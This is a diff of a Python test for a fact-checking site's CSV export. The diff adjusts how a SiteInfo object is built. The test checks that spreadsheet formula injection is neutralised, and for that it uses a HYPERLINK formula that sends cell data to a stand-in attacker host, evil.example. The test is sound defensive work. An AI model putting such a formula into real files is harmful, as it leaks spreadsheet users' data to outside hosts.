@@ -212,14 +212,14 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(repo: ScratchRep
     import io
 
     from factcheck.exports import export_files
-    from factcheck.publishing import SiteInfo
+    from factcheck.publishing import Publisher, SiteInfo
 
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
     repo.source("s", "A text.")
     repo.claim("c1", "s", "A text", 0, 6, claim=formula.replace("\t", " ").replace("\r", " ") if start in "\t\r" else formula,
                summary=formula if start not in "\t\r" else "Summary.")
     model = build_site(load_repository(repo.root))
-    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", "P", "https://e.org/"))["claims.csv"])))
+    rows = list(csv.DictReader(io.StringIO(export_files(model, SiteInfo("S", "https://e.org/", Publisher("P", "https://e.org/")))["claims.csv"])))
     for row in rows:
         for column, value in row.items():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
